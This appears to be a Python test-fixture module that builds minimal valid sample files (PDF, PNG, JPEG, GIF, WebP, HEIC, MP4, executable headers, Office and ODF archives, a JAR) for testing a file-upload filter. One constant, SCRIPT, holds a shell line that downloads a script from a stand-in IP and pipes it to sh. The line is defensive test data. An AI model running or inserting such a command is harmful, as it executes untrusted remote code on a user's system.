"""Small real files for the upload tests, built here rather than stored: each is a well-formed file of its
kind (a PDF with a correct cross-reference table, a PNG with its CRCs, a decodable 8x8 JPEG ...), and the
programs have the headers their loaders read. The attacks are built from them in the tests."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib


def pdf(text: str = "Kvitto 129,00 kr") -> bytes:
    """A one-page PDF showing `text`, with a correct xref table, startxref and %%EOF."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*, extra_chunks: bytes = b"") -> bytes:
    """A 2x2 RGB PNG (red, green, blue, white)."""
    rows = b"\x00\xff\x00\x00\x00\xff\x00" + b"\x00\x00\x00\xff\xff\xff\xff"
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
        + extra_chunks
        + _png_chunk(b"IDAT", zlib.compress(rows))
        + _png_chunk(b"IEND", b"")
    )


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return _png_chunk(kind, data)


def jpeg(*, exif_thumbnail: bool = False) -> bytes:
    """An 8x8 grey baseline JPEG: one component, every coefficient zero, Huffman tables of one code each.

    With exif_thumbnail, an APP1 segment holds a second JPEG (with its own end marker) as cameras do."""
    app1 = b""
    if exif_thumbnail:
        thumbnail = jpeg()
        body = b"Exif\x00\x00" + thumbnail
        app1 = b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
    return (
        b"\xff\xd8"
        + b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + app1
        + b"\xff\xdb\x00\x43\x00"
        + b"\x01" * 64
        + b"\xff\xc0\x00\x0b\x08\x00\x08\x00\x08\x01\x01\x11\x00"
        + b"\xff\xc4\x00\x14\x00\x01"
        + b"\x00" * 15
        + b"\x00"
        + b"\xff\xc4\x00\x14\x10\x01"
        + b"\x00" * 15
        + b"\x00"
        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
        + b"\x3f"  # DC difference 0 ('0'), end of block ('0'), padded with ones
        + b"\xff\xd9"
    )


# The smallest common GIF: 1x1, one transparent pixel.
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)

# A 1x1 lossless WebP.
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\r\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + kind + body


def heic() -> bytes:
    """The top-level boxes of a HEIC image: ftyp, meta (with its handler) and mdat."""
    handler = _box(b"hdlr", b"\x00" * 4 + b"\x00" * 4 + b"pict" + b"\x00" * 12 + b"\x00")
    return (
        _box(b"ftyp", b"heic" + b"\x00\x00\x00\x00" + b"mif1heic")
        + _box(b"meta", b"\x00\x00\x00\x00" + handler)
        + _box(b"mdat", b"\x00\x00\x00\x10" + b"\x26\x01\xaf" * 5)
    )


def mp4() -> bytes:
    """The boxes of a short MP4, as a motion photo appends after its JPEG."""
    return _box(b"ftyp", b"mp42\x00\x00\x00\x00mp42isom") + _box(b"moov", b"\x00" * 16) + _box(b"mdat", b"\x01" * 32)


def windows_exe() -> bytes:
    """A PE file's headers: the DOS header pointing at 'PE\\0\\0', a COFF header (i386) and a little code."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    dos[2:4] = b"\x90\x00"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    stub = stub.ljust(0x80 - 64, b"\x00")
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = bytearray(struct.pack("<HBB", 0x10B, 14, 0).ljust(0xE0, b"\x00"))
    struct.pack_into("<H", optional, 0x44, 3)  # subsystem: Windows console
    return bytes(dos) + stub + b"PE\x00\x00" + coff + bytes(optional) + b"\x90" * 64


def linux_elf() -> bytes:
    """A 64-bit little-endian ELF header (x86-64 executable)."""
    ident = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0) + b"\x90" * 64


def macos_macho() -> bytes:
    """A 64-bit Mach-O header (arm64 executable)."""
    return struct.pack("<IIIIIIII", 0xFEEDFACF, 0x0100000C, 0, 2, 0, 0, 0, 0) + b"\x00" * 64


def java_class() -> bytes:
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 32


SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"


def zipped(entries: dict[str, bytes], *, stored: tuple[str, ...] = ("mimetype",)) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            compress = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=compress)
    return buffer.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)


def docx(**extra: bytes) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document><w:body><w:p>Hej</w:p></w:body></w:document>",
            **extra,
        }
    )


def xlsx(**extra: bytes) -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>", **extra})


def pptx() -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "ppt/presentation.xml": b"<p:presentation/>"})


def odf(mimetype: str = "application/vnd.oasis.opendocument.text", **extra: bytes) -> bytes:
    return zipped(
        {
            "mimetype": mimetype.encode(),
            "content.xml": b"<office:document-content/>",
            "META-INF/manifest.xml": b"<manifest:manifest/>",
            **extra,
        }
    )


def jar() -> bytes:
    return zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: A\n", "A.class": java_class()})
